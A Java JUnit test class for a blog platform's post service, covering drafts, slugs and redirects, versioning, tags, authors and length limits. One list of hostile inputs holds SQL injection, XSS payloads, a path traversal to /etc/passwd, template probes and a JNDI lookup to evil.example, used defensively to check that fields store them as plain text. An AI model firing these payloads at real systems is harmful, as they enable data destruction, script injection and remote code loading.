package org.inkjar.post;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.time.Duration;
import java.util.List;
import java.util.UUID;
import org.inkjar.AsEditor;
import org.inkjar.InkjarTest;
import org.inkjar.People;
import org.inkjar.Posts;
import org.inkjar.Refusals;
import org.inkjar.TestClock;
import org.inkjar.common.NotFoundException;
import org.inkjar.common.Slug;
import org.inkjar.common.StaleVersionException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.FieldSource;

@InkjarTest
@AsEditor
class PostServiceTests {

    private final PostService service;
    private final PublishedPosts published;
    private final Posts posts;
    private final People people;
    private final TestClock clock;

    PostServiceTests(PostService service, PublishedPosts published, Posts posts, People people, TestClock clock) {
        this.service = service;
        this.published = published;
        this.posts = posts;
        this.people = people;
        this.clock = clock;
    }

    @Test
    void keepsANewDraft() {
        var data = new PostData(
                PostKind.POST,
                "A title",
                "an-address",
                "A summary",
                "# A body\n\nof two blocks",
                "/media/cover.webp",
                "What it shows",
                List.of(people.ada().id()),
                List.of("Java", "Web"),
                "pt-BR",
                "A title for search engines",
                "A description for search engines",
                "https://example.com/first",
                true);

        var post = service.create(data);

        assertThat(post.data()).isEqualTo(data);
        assertThat(post.status()).isEqualTo(PostStatus.DRAFT);
        assertThat(post.publishedAt()).isNull();
        assertThat(post.updatedAt()).isEqualTo(TestClock.START);
        assertThat(service.find(post.id())).contains(post);
    }

    @ParameterizedTest
    @CsvSource({"POST,Crème brûlée,creme-brulee", "POST,🎉,untitled", "POST,Admin,admin", "PAGE,Admin,admin-2"})
    void makesAnAddressOfTheTitle(PostKind kind, String title, String slug) {
        assertThat(service.create(of(kind, title, "")).data().slug()).isEqualTo(slug);
    }

    @Test
    void numbersAddressesOfTheSameTitle() {
        assertThat(List.of(
                        posts.draft("Title"), posts.published("Title"), posts.deleted("Title"), posts.draft("Title")))
                .extracting(post -> post.data().slug())
                .containsExactly("title", "title-2", "title-3", "title-4");
    }

    @Test
    void anAddressMadeOfATitleIsNoneByWhichReadersKnowAnotherPost() {
        move(posts.published("Old"), "new");

        assertThat(posts.draft("Old").data().slug()).isEqualTo("old-2");
    }

    @Test
    void aPostAndAPageDoNotCompeteForAnAddress() {
        assertThat(posts.draft("About").path()).isEqualTo("/posts/about");
        assertThat(posts.pages().draft("About").path()).isEqualTo("/about");
    }

    @Test
    void rejectsASlugThatIsTaken() {
        posts.draft("First");

        assertThat(Refusals.of(() -> service.create(of(PostKind.POST, "Second", "first"))))
                .hasEntrySatisfying("slug", message -> assertThat(message).contains("“First”"));
    }

    @Test
    void saysThatADeletedPostHasTheSlug() {
        posts.deleted("First");

        assertThat(Refusals.of(() -> service.create(of(PostKind.POST, "Second", "first"))))
                .hasEntrySatisfying("slug", message -> assertThat(message).contains("deleted post"));
    }

    @Test
    void keepsChangesUnderANewVersion() {
        var post = posts.draft("Before");
        clock.advance(Duration.ofHours(1));

        var saved = service.save(post.id(), post.version(), titled(post, "After"));

        assertThat(saved.data().title()).isEqualTo("After");
        assertThat(saved.data().slug()).isEqualTo("before");
        assertThat(saved.version()).isGreaterThan(post.version());
        assertThat(saved.updatedAt()).isEqualTo(clock.instant());
        assertThat(service.find(post.id())).contains(saved);
    }

    @Test
    void refusesAStaleWriteAndKeepsWhatIsThere() {
        var post = posts.draft("Before");
        var saved = service.save(post.id(), post.version(), titled(post, "First"));

        assertThatExceptionOfType(StaleVersionException.class)
                .isThrownBy(() -> service.save(post.id(), post.version(), titled(post, "Second")));
        assertThat(service.find(post.id())).contains(saved);
    }

    @Test
    void aChangeOfTagsOrAuthorsAloneIsAChange() {
        var post = posts.draft("Title");

        var tagged = service.save(post.id(), post.version(), tagged(post.data(), "java"));

        assertThat(tagged.version()).isGreaterThan(post.version());
        var signed = service.save(
                post.id(),
                tagged.version(),
                by(tagged.data(), people.author("Bob").id()));
        assertThat(signed.version()).isGreaterThan(tagged.version());
    }

    @Test
    void tellsWhenThePostIsGone() {
        assertThatExceptionOfType(NotFoundException.class)
                .isThrownBy(() -> service.save(UUID.randomUUID(), 0, of(PostKind.POST, "Title", "")));
        assertThatExceptionOfType(NotFoundException.class).isThrownBy(() -> service.duplicate(UUID.randomUUID()));
        assertThat(service.find(UUID.randomUUID())).isEmpty();
    }

    @Test
    void theOldAddressOfAPublicPostLeadsToTheNewOne() {
        move(posts.published("Old"), "new");

        assertThat(published.find(PostKind.POST, new Slug("old"))).isEmpty();
        assertThat(published.movedFrom(PostKind.POST, new Slug("old"))).contains("/posts/new");
    }

    @Test
    void nobodyKnowsTheOldAddressOfADraft() {
        var draft = move(posts.draft("Old"), "new");
        publish(draft);

        assertThat(published.movedFrom(PostKind.POST, new Slug("old"))).isEmpty();
    }

    @Test
    void everyOldAddressLeadsToTheLatest() {
        move(move(posts.published("One"), "two"), "three");

        assertThat(published.movedFrom(PostKind.POST, new Slug("one"))).contains("/posts/three");
        assertThat(published.movedFrom(PostKind.POST, new Slug("two"))).contains("/posts/three");
    }

    @Test
    void anAddressCanBeTakenBack() {
        var back = move(move(posts.published("One"), "two"), "one");

        assertThat(published.find(PostKind.POST, new Slug("one")).orElseThrow().id())
                .isEqualTo(back.id());
        assertThat(published.movedFrom(PostKind.POST, new Slug("two"))).contains("/posts/one");
    }

    @Test
    void anOldAddressCanBecomeAnotherPosts() {
        move(posts.published("Old"), "new");
        var other = posts.withSlug("old").published("Another");

        assertThat(other.path()).isEqualTo("/posts/old");
        assertThat(published.find(PostKind.POST, new Slug("old")).orElseThrow().id())
                .isEqualTo(other.id());
    }

    @Test
    void thePlaceOfAWithdrawnPostIsKept() {
        var post = move(posts.withdrawn("Old"), "new");
        publish(post);

        assertThat(published.movedFrom(PostKind.POST, new Slug("old"))).contains("/posts/new");
    }

    @Test
    void aPostThatBecomesAPageIsFoundUnderBothAddresses() {
        var post = posts.published("About");

        var page = service.save(post.id(), post.version(), kind(post.data(), PostKind.PAGE));

        assertThat(page.path()).isEqualTo("/about");
        assertThat(published.find(PostKind.PAGE, new Slug("about"))).isPresent();
        assertThat(published.movedFrom(PostKind.POST, new Slug("about"))).contains("/about");
    }

    @Test
    void makesTagsOnTheFlyAndKeepsTheirOrder() {
        assertThat(posts.taggedWith("Web", "#Java", "C++", "C#")
                        .draft("A")
                        .data()
                        .tags())
                .containsExactly("Web", "Java", "C++", "C#");
        assertThat(posts.taggedWith("c#", "JAVA").draft("B").data().tags()).containsExactly("C#", "Java");
    }

    @Test
    void tagsThatDifferInCaseAloneAreOne() {
        assertThat(posts.taggedWith("Java", "JAVA", "java").draft("A").data().tags())
                .containsExactly("Java");
    }

    @Test
    void tagsCanBeReorderedAndTakenOff() {
        var post = posts.taggedWith("a", "b", "c").draft("Title");

        var saved = service.save(post.id(), post.version(), tagged(post.data(), "c", "a"));

        assertThat(service.find(post.id()).orElseThrow().data().tags()).containsExactly("c", "a");
        service.save(post.id(), saved.version(), tagged(post.data()));
        assertThat(service.find(post.id()).orElseThrow().data().tags()).isEmpty();
    }

    @Test
    void authorsStandInTheirOrderAndCanBeReordered() {
        var bob = people.author("Bob");
        var post = posts.by(bob, people.ada()).draft("Title");
        assertThat(post.data().authorIds())
                .containsExactly(bob.id(), people.ada().id());

        service.save(post.id(), post.version(), by(post.data(), people.ada().id(), bob.id()));

        assertThat(service.find(post.id()).orElseThrow().data().authorIds())
                .containsExactly(people.ada().id(), bob.id());
    }

    @Test
    void refusesAnAuthorWhoDoesNotExist() {
        assertThat(Refusals.of(() -> service.create(by(of(PostKind.POST, "Title", ""), UUID.randomUUID()))))
                .containsOnlyKeys("authorIds");
    }

    @Test
    void aDuplicateIsADraftWithTheSameContent() {
        var original = posts.taggedWith("java").saying("Body").published("Title");

        var copy = service.duplicate(original.id());

        assertThat(copy.status()).isEqualTo(PostStatus.DRAFT);
        assertThat(copy.data().title()).isEqualTo("Title (copy)");
        assertThat(copy.data().slug()).isEqualTo("title-copy");
        assertThat(copy.data())
                .usingRecursiveComparison()
                .ignoringFields("title", "slug")
                .isEqualTo(original.data());
        assertThat(service.duplicate(original.id()).data().slug()).isEqualTo("title-copy-2");
    }

    @Test
    void theLongestTitlesCanBeDuplicated() {
        assertThat(service.duplicate(posts.draft("x".repeat(200)).id()).data().title())
                .hasSize(200)
                .endsWith("x (copy)");
        assertThat(service.duplicate(posts.draft("🎉".repeat(100)).id()).data().title())
                .hasSizeBetween(198, 200)
                .endsWith("🎉 (copy)");
    }

    static final List<String> LONGEST_BODIES =
            List.of("x ".repeat(499_999) + "x", "🎉".repeat(500_000), "é".repeat(1_000_000));

    @ParameterizedTest(name = "{index}")
    @FieldSource("LONGEST_BODIES")
    void keepsAMillionCharacters(String body) {
        var post = posts.saying(body).published("Long");

        assertThat(published
                        .find(PostKind.POST, new Slug("long"))
                        .orElseThrow()
                        .data()
                        .body())
                .isEqualTo(post.data().body())
                .isEqualTo(body);
    }

    @Test
    void everyTextMayBeAsLongAsItsLimitInTheWidestCharacters() {
        var data = longest("漢");

        assertThat(service.create(data).data())
                .usingRecursiveComparison()
                .ignoringFields("slug")
                .isEqualTo(data);
        assertThat(Refusals.of(() -> service.create(longest("🎉")))).isNotEmpty();
    }

    static final List<String> HOSTILE = List.of(
            "'; drop table post; --",
            "\" or 1=1 --",
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "../../../etc/passwd",
            "%s%n ${jndi:ldap://evil.example} #{7*7} {{7*7}}",
            "👩‍💻🏳️‍🌈 \u05E9\u05DC\u05D5\u05DD مرحبا",
            "Z\u0351\u036B\u0343\u036A\u0302a\u0328l\u0322g\u0321o");

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void textIsTextInEveryField(String text) {
        var data = new PostData(
                PostKind.POST,
                text,
                "",
                text,
                text,
                "",
                text,
                List.of(people.ada().id()),
                List.of(text),
                "en",
                text,
                text,
                "",
                false);

        var stored = service.find(service.create(data).id()).orElseThrow().data();

        assertThat(stored).usingRecursiveComparison().ignoringFields("slug").isEqualTo(data);
        assertThat(Slug.parse(stored.slug())).isPresent();
    }

    private PostData longest(String character) {
        return new PostData(
                PostKind.POST,
                character.repeat(200),
                "",
                character.repeat(500),
                "",
                "",
                character.repeat(300),
                List.of(people.ada().id()),
                List.of(character.repeat(50)),
                "en",
                character.repeat(200),
                character.repeat(500),
                "",
                false);
    }

    private PostDetails move(PostDetails post, String slug) {
        var data = post.data();
        return service.save(
                post.id(),
                post.version(),
                change(data, data.kind(), data.title(), slug, data.authorIds(), data.tags()));
    }

    private void publish(PostDetails post) {
        assertThat(posts.publish(post).status()).isEqualTo(PostStatus.PUBLISHED);
    }

    private PostData of(PostKind kind, String title, String slug) {
        return change(
                PostData.of(kind, title, "", people.ada().id()),
                kind,
                title,
                slug,
                List.of(people.ada().id()),
                List.of());
    }

    private static PostData titled(PostDetails post, String title) {
        var data = post.data();
        return change(data, data.kind(), title, data.slug(), data.authorIds(), data.tags());
    }

    private static PostData tagged(PostData data, String... tags) {
        return change(data, data.kind(), data.title(), data.slug(), data.authorIds(), List.of(tags));
    }

    private static PostData by(PostData data, UUID... authors) {
        return change(data, data.kind(), data.title(), data.slug(), List.of(authors), data.tags());
    }

    private static PostData kind(PostData data, PostKind kind) {
        return change(data, kind, data.title(), data.slug(), data.authorIds(), data.tags());
    }

    private static PostData change(
            PostData data, PostKind kind, String title, String slug, List<UUID> authors, List<String> tags) {
        return new PostData(
                kind,
                title,
                slug,
                data.summary(),
                data.body(),
                data.cover(),
                data.coverAlt(),
                authors,
                tags,
                data.language(),
                data.seoTitle(),
                data.seoDescription(),
                data.canonicalUrl(),
                data.featured());
    }
}
